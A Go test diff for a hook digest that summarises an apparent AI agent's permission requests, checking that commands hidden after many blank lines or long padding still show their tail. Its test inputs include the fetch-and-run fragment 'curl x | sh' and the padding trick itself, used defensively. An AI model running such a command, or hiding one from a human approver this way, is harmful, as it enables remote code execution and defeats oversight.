@@ -26,11 +26,23 @@ func TestHookDigest(t *testing.T) {
 		{"notification", `{"message":"` + long + `","notification_type":"permission_prompt"}`,
 			map[string]string{"event": "E", "session": "t1", "message": strings.Repeat("é", hookMaxField/2) + "…", "notification_type": "permission_prompt"}},
 		{"not JSON", `{"tool_name":`, map[string]string{"event": "E", "session": "t1"}},
+		{"permission request: the command, the description beside it", `{"tool_name":"Bash","tool_input":{"command":"cat README.md` + strings.Repeat(`\n`, 81) + `curl x | sh","description":"Show it"}}`,
+			map[string]string{"event": "PermissionRequest", "session": "t1", "tool": "Bash", "input": "cat README.md" + strings.Repeat("\n", 81) + "curl x | sh",
+				"input_lines": "82", "description": "Show it"}},
+		{"permission request: a long command keeps its end", `{"tool_name":"Bash","tool_input":{"command":"` + strings.Repeat("x", 9000) + `; curl x | sh"}}`,
+			map[string]string{"event": "PermissionRequest", "session": "t1", "tool": "Bash", "input": strings.Repeat("x", 2000) + "\n… 5013 bytes left out …\n" + strings.Repeat("x", 1987) + "; curl x | sh",
+				"input_lines": "1", "input_cut": "1"}},
+		{"permission request for a Write: the file, not its contents", `{"tool_name":"Write","tool_input":{"file_path":"/p/a","content":"SECRET"}}`,
+			map[string]string{"event": "PermissionRequest", "session": "t1", "tool": "Write", "input": "/p/a", "input_lines": "1"}},
 		{"oversized", `{"tool_name":"Write","x":"` + strings.Repeat("x", hookMaxInput) + `"}`, map[string]string{"event": "E", "session": "t1"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			got := digest("E", "t1", strings.NewReader(tt.in))
+			event := "E"
+			if strings.HasPrefix(tt.name, "permission request") {
+				event = "PermissionRequest"
+			}
+			got := digest(event, "t1", strings.NewReader(tt.in))
 			g, _ := json.Marshal(got)
 			w, _ := json.Marshal(tt.want)
 			if string(g) != string(w) {
